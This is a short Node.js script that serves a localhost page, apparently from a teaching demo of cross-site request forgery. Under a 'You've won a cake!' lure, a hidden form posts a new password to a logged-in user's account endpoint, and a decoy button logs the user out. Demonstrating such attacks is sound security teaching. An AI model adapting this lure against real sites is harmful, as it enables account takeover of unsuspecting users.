/*
 * Mallory's page. Open it in your own browser while Ada is logged in there.
 */
import { createServer } from 'node:http';

const { PORT = '4000', PAGE_PORT = '4666' } = process.env;
const app = `http://localhost:${PORT}`;

const page = `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<title>You've won!</title>
<h1>You've won a cake!</h1>
<form method="post" action="${app}/account/password">
  <input type="hidden" name="new" value="set by mallory">
  <button>Get my cake</button>
</form>
<form method="post" action="${app}/logout">
  <button>No, thanks</button>
</form>
</html>
`;

createServer((req, res) => {
  res.setHeader('Content-Type', 'text/html').end(page);
}).listen(Number(PAGE_PORT), 'localhost', () => {
  console.log(`Mallory's page: http://localhost:${PAGE_PORT}. Ctrl-C takes it down.`);
});
